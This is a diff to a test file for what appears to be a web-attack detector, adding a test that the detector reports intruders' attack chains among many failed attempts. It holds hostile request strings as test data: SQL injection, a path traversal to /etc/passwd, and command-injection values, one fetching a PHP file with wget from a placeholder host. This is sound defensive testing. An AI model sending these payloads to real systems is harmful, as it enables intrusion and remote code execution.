@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import random
 from typing import Any
 
 import pytest
@@ -11,7 +12,7 @@ from memory_events import MemoryEvents, at
 from headwater.detect import registry
 from headwater.detect.detectors import web_chain
 from headwater.detect.web_attempts import PATTERNS
-from headwater.detect.web_stages import kinds, read
+from headwater.detect.web_stages import chains, kinds, read
 from headwater.model.kinds import Confidence, EventKind, Severity
 from headwater.model.ports import Settings
 
@@ -132,6 +133,24 @@ def test_clients_behind_one_trusted_proxy_are_kept_apart() -> None:
 def test_repeated_injections_are_told_though_nothing_else_was_tried() -> None:
     tries = [request(n, "GET", f"/item.php?id={n}+union+select+1", 200) for n in range(6)]
     assert [(f.severity, f.facts["kinds"]) for f in run(*tries)] == [(Severity.LOW, "sql-injection")]
+
+
+def test_a_crowd_that_got_nowhere_hides_nobody_who_got_in_and_the_first_of_it_are_told() -> None:
+    pick, rows = random.Random(4), []
+    acts = (
+        ("GET", "/item.php?id=1'%20or%20'1'='1"), ("GET", "/a?f=../../../etc/passwd"), ("GET", "/x?cmd=id"),
+        ("POST", "/admin/upload.php"), ("GET", "/x?cmd=wget%20http://192.0.2.1/a.php"), ("GET", "/news.html"),
+    )  # fmt: skip
+    for n in range(60):
+        ip, agent = f"198.51.100.{n}", pick.choice(("Mozilla/5.0", "Mozilla/5.0", "sqlmap/1.7"))
+        rows += [request(pick.randrange(900), *pick.choice(acts), 200, ip, agent) for _ in range(pick.randint(1, 9))]
+    events = shell().say("web.access", LOG, *rows, *SCAN, TRY, SEND, *USE)
+    told, every = ([(c.who.address, c.source, tuple(c.stages)) for c in chains(events, (), n)] for n in (5, 1000))
+    assert (BAD, 1, ("scan", "exploit", "upload", "shell")) in told
+    assert told == [c for c in every if c in told]
+    vain = [c for c in every if not {"upload", "shell"} & set(c[2])]
+    assert [c for c in told if c in vain][:5] == vain[:5]
+    assert 10 < len(told) < len(every)
 
 
 @pytest.mark.parametrize(
